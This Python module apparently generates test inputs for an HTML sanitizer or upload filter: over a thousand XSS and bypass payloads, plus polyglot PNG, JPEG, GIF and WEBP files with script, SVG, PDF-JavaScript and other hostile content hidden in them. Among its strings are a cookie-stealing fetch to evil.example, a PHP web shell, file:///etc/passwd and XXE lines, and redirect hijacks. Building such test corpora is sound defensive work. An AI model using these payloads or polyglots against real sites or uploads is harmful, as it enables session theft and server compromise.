"""A thousand ways to smuggle something into HTML, sixty files that are two things at once: made by combination."""

# ruff: noqa: E501  # hostile texts in one line

from __future__ import annotations

import io
import struct
import zlib
from itertools import product

from PIL import Image

ACTS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//evil.example'")
TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "iframe",
    "input",
    "details",
    "marquee",
    "a",
    "math",
    "p",
    "x-y",
    "object",
)
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "ontoggle",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "onpointerrawupdate",
)
ADDRESSES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#x6A;avascript:1",
    ),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)"),
    *("//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "http:evil.example", "https://a@evil.example/"),
    *(
        "blob:https://evil.example/1",
        "file:///etc/passwd",
        "cid:1",
        "view-source:x",
        "\x01javascript:alert(1)",
        "/sign-out",
    ),
)
PLACES = (
    *('<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>'),
    *(
        '<form action="{}"><button>x</button></form>',
        '<object data="{}"></object>',
        '<embed src="{}">',
        '<base href="{}">',
    ),
    *(
        '<link rel="stylesheet" href="{}">',
        '<svg><a xlink:href="{}"><text>x</text></a></svg>',
        '<table background="{}">',
    ),
    *(
        '<meta http-equiv="refresh" content="0;url={}">',
        '<video poster="{}"></video>',
        '<blockquote cite="{}">x</blockquote>',
    ),
    *(
        '<button formaction="{}">x</button>',
        '<img srcset="{} 2x">',
        '<p style="background:url({})">x</p>',
        '<input src="{}">',
    ),
)
ODD = (
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<SCRIPT>alert(1)", "<!--><script>1</script>"),
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",),
    *("<template><script>alert(1)</script></template>", "<form id=x></form><button form=x formaction=//evil.example>x",),
    *('<p data-hx-get="//evil.example" data-hx-trigger="load">x</p>', '<p hx-get="/x" hx-on:load="alert(1)">x</p>'),
    *('<p class="dialog" id="csrf-token" style="position:fixed;inset:0">x</p>', '<p name="body" data-panel data-key="n">x</p>'),
    *("<style>*{background:url(//evil.example)}</style>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>1"),
    *('<div slot="x"><slot onslotchange=alert(1)></div>', "<select><style><script>alert(1)</script></select>", "\x00<scr\x00ipt>1"),
    *('<a href="https://evil.example" target="_top" ping="//evil.example" rel="opener" download>x</a>', "<?xml-stylesheet href=x?>"),
    *("<!doctype html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "<![CDATA[<script>alert(1)</script>]]>", "<a\fhref='javascript:1'>"),
)  # fmt: skip


def payloads() -> list[str]:
    """At least a thousand, each once."""
    handled = [
        f"<{tag} src=x autofocus {on}{eq}{act}>" for tag, on, act, eq in product(TAGS, HANDLERS, ACTS, ("=", " = "))
    ]
    placed = [place.format(address) for place, address in product(PLACES, ADDRESSES)]
    nested = [f"<div><b>{odd}</b></div>" for odd in ODD]
    return list(dict.fromkeys([*handled, *placed, *ODD, *nested]))


def picture(kind: str, size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind)
    return out.getvalue()


HIDDEN = (
    b"<script>alert(1)</script>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"<?php system($_GET[0]); ?>",
    b"<html><body onload=alert(1)>",
    b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>",
    b"PK\x03\x04" + b"\x00" * 26,
    b"#!/bin/sh\nid\n",
    b"*/=1;alert(1);/*",
)


def polyglots() -> list[bytes]:
    """Pictures that carry something else: behind their end, in their text, in front of them."""
    found = []
    for kind, hidden in product(("PNG", "JPEG", "GIF", "WEBP"), HIDDEN):
        found += [picture(kind) + hidden, _inside(kind, hidden)]
    return [*found, *(hidden + picture("GIF") for hidden in HIDDEN)]


def _inside(kind: str, hidden: bytes) -> bytes:
    """In a comment, or where a format has none, in the middle of the file's metadata."""
    plain = picture(kind)
    if kind == "PNG":
        body = b"tEXtComment\x00" + hidden
        return plain[:33] + struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body)) + plain[33:]
    if kind == "JPEG":
        return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(hidden) + 2) + hidden + plain[2:]
    if kind == "GIF":
        return plain[:-1] + b"\x21\xfe" + bytes([len(hidden)]) + hidden + b"\x00;"
    body = b"EXIF" + struct.pack("<I", len(hidden)) + hidden + b"\x00" * (len(hidden) % 2)
    grown = plain + body
    return grown[:4] + struct.pack("<I", len(grown) - 8) + grown[8:]
